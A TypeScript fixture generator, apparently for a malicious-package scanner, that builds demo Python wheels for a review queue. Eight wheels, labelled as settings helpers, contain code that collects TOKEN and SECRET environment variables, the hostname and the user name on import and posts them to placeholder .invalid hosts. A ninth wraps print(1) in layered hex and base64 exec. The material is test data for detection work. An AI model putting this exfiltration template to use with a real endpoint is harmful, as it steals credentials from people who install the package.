/** What a newcomer finds in the queue: the bundled examples, and a campaign of near-identical copies. All of it inert. */
import { readdirSync } from 'node:fs';
import path from 'node:path';
import { fileURLToPath } from 'node:url';
import { type PackedExample, packExample, packWheel } from './pack-example.ts';

const EXAMPLES = fileURLToPath(new URL('../examples/', import.meta.url));
const COPIES = 8;

export function demoUploads(): PackedExample[] {
  const folders = readdirSync(EXAMPLES, { withFileTypes: true }).filter((entry) => entry.isDirectory());
  const examples = folders.map(({ name }) => packExample(path.join(EXAMPLES, name)));
  return [...examples, ...Array.from({ length: COPIES }, (_, index) => copy(index)), layered()];
}

/** Names, addresses and variables differ from copy to copy, as they do in real campaigns. */
function copy(index: number): PackedExample {
  const name = ['data', 'info', 'payload', 'things', 'result', 'values', 'found', 'pairs'][index % COPIES]!;
  const source = `"""Helpers for settings."""
import os
import socket
import urllib.request


def ${name}_report():
    ${name} = {}
    for key, value in os.environ.items():
        if "TOKEN" in key or "SECRET" in key:
            ${name}[key] = value
    ${name}["host"] = socket.gethostname()
    ${name}["user"] = os.getlogin()
    request = urllib.request.Request("https://collect-${index}.invalid/in", data=str(${name}).encode())
    urllib.request.urlopen(request, timeout=5).read()


${name}_report()
`;
  return wheel(`settings_helper_${index + 1}`, source);
}

/** Two layers of encoding around \`print(1)\`. */
function layered(): PackedExample {
  const innermost = Buffer.from('print(1)').toString('base64');
  const inner = Buffer.from(`import base64\nexec(base64.b64decode("${innermost}"))\n`).toString('hex');
  return wheel('two_layers', `"""Nothing to see."""\n\nexec(bytes.fromhex("${inner}"))\n`);
}

function wheel(project: string, source: string): PackedExample {
  const info = `${project}-1.0.dist-info`;
  const files = {
    [`${project}/__init__.py`]: source,
    [`${info}/METADATA`]: `Metadata-Version: 2.1\nName: ${project}\nVersion: 1.0\nSummary: An example\n`,
    [`${info}/WHEEL`]: 'Wheel-Version: 1.0\nGenerator: lazaret\nRoot-Is-Purelib: true\nTag: py3-none-any\n',
  };
  const packed = Object.entries(files).map(([file, text]) => ({ path: file, bytes: Buffer.from(text) }));
  return { filename: `${project}-1.0-py3-none-any.whl`, bytes: packWheel(packed) };
}
